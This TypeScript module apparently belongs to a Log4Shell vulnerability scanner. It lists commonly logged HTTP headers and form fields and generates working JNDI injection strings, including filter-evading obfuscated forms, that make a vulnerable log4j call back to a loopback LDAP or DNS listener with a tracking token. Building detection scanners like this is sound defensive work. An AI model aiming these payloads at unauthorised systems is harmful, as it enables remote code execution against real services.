import { randomBytes } from 'node:crypto';
import type { Endpoint, FieldLocation, PayloadForm, PlacedToken } from './types';

/**
 * Request headers services commonly log (access logs, auth failures, tracing), after the
 * header list of CISA's log4j-scanner. Hop-by-hop and framing headers (Host, Connection,
 * Content-Length ...) are left out: a marked value there breaks the request, not the logger.
 */
export const PROBE_HEADERS = [
  'User-Agent',
  'Referer',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Server',
  'X-Real-IP',
  'X-Client-IP',
  'X-Remote-IP',
  'X-Remote-Addr',
  'X-Originating-IP',
  'True-Client-IP',
  'Client-IP',
  'CF-Connecting-IP',
  'Forwarded',
  'X-Api-Version',
  'Authorization',
  'Cookie',
  'Accept',
  'Accept-Language',
  'Accept-Charset',
  'Origin',
  'Via',
  'From',
  'Contact',
  'X-Request-ID',
  'X-Correlation-ID',
  'X-Trace-ID',
  'X-Wap-Profile',
  'X-Device',
  'X-Requested-With',
  'X-CSRF-Token',
  'X-XSRF-TOKEN',
  'X-Auth-Token',
  'X-Api-Key',
  'X-Login',
  'X-Username',
  'X-User',
  'X-Session-ID',
  'Cache-Control',
  'Pragma',
  'Warning',
  'DNT',
  'Base-Url',
  'Destination',
] as const;

/** Query, form and JSON field names a service plausibly logs (search terms, log-in names). */
export const PROBE_FIELDS = ['q', 'username', 'user', 'email', 'password', 'search', 'id'] as const;
export const PROBE_QUERY_PARAMS = ['q', 'id', 'username'] as const;

export interface CallbackPorts {
  /** The loopback host both responders listen on. */
  host: string;
  ldap: number;
  dns: number;
}

/** `${...}` that makes a vulnerable log4j look up `<scheme>://host:port/token`, written in `form`. */
export function payload(form: PayloadForm, ports: CallbackPorts, token: string): string {
  const ldap = `//${ports.host}:${ports.ldap}/${token}`;
  switch (form) {
    case 'plain':
      return `\${jndi:ldap:${ldap}}`;
    case 'lower':
      return `\${\${lower:j}ndi:\${lower:l}dap:${ldap}}`;
    case 'default-value':
      return `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}:${ldap}}`;
    case 'env-default':
      return `\${\${env:L4F_UNSET:-j}ndi\${env:L4F_UNSET:-:}\${env:L4F_UNSET:-l}dap\${env:L4F_UNSET:-:}${ldap}}`;
    case 'dns':
      return `\${jndi:dns://${ports.host}:${ports.dns}/${token}}`;
  }
}

/**
 * Hands out tokens that are unique in this run and safe as a DNS label and an LDAP DN
 * (lowercase letters and digits), and remembers where each went.
 */
export class TokenBook {
  private readonly nonce = randomBytes(4).toString('hex');
  private seq = 0;
  private readonly placed = new Map<string, PlacedToken>();

  place(target: Endpoint, location: FieldLocation, field: string, form: PayloadForm): string {
    const token = `l4f${this.nonce}x${(this.seq++).toString(36)}`;
    this.placed.set(token, { token, target, location, field, form });
    return token;
  }

  /** Where a token went; lookups are case-insensitive (DNS may change the case). */
  find(token: string): PlacedToken | undefined {
    return this.placed.get(token.toLowerCase());
  }

  get size(): number {
    return this.placed.size;
  }
}
